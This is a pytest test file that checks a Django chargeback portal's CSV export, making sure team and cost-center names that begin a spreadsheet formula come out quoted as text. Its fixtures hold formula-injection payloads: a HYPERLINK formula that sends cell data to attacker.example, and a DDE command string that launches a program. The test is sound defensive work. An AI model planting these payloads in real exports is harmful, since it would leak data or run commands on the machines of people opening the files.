"""Names that a spreadsheet would run as formulas reach the chargeback CSV as text; numbers stay numbers."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from teams.csv_export import write_csv
from teams.models import CostCenter, Team

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.fixture
def hostile_names(october):
    Team.objects.filter(slug="research").update(name=HYPERLINK)
    CostCenter.objects.filter(code="ds-001").update(name=COMMAND)
    return october


def test_a_team_name_formula_is_text_in_the_api_csv(hostile_names, client):
    client.force_login(hostile_names.finance)

    rows = _rows(
        client.get(
            "/api/v1/chargeback/", {"start": "2026-10-01", "end": "2026-11-01", "group_by": "team", "format": "csv"}
        )
    )

    assert [(row["group"], row["group_name"], row["cost_total"]) for row in rows] == [
        ("data-science", "Data Science", "1185.60"),
        ("research", "'" + HYPERLINK, "23270.40"),
    ]


def test_a_cost_center_name_formula_is_text_in_the_api_csv(hostile_names, client):
    client.force_login(hostile_names.finance)

    rows = _rows(
        client.get(
            "/api/v1/chargeback/",
            {"start": "2026-10-01", "end": "2026-11-01", "group_by": "cost_center", "format": "csv"},
        )
    )

    assert [(row["group"], row["group_name"], row["cost_total"]) for row in rows] == [
        ("ds-001", "'" + COMMAND, "1185.60"),
        ("rd-001", "Research & Development", "23270.40"),
    ]


def test_the_pages_download_defuses_the_team_name(hostile_names, client):
    client.force_login(hostile_names.finance)
    page = client.get(reverse("chargeback:report"), {"start": "2026-10-01", "end": "2026-10-31"}).content.decode()
    link = re.search(r'href="(/api/v1/chargeback/[^"]+cost_center=rd-001)"', page)[1].replace("&amp;", "&")

    rows = _rows(client.get(link))

    assert [(row["group_name"], row["cost_total"]) for row in rows] == [("'" + HYPERLINK, "23270.40")]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\r=cmd", "'\r=cmd"),
        ("-12.50", "-12.50"),
        ("-3", "-3"),
        ("+1e3", "+1e3"),
        ("0.6962", "0.6962"),
        (-7, "-7"),
        (None, ""),
        ("ML Research", "ML Research"),
        ("a=b", "a=b"),
    ],
)
def test_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers(cell, written):
    text = write_csv(["value"], [{"value": cell}])

    assert list(csv.reader(io.StringIO(text))) == [["value"], [written]]


def test_every_csv_the_portal_writes_goes_through_the_one_helper():
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for app in ("accounts", "chargeback", "portal", "provisioning", "teams")
        for path in (root / app).rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text())
    ]

    assert writers == ["teams/csv_export.py"]
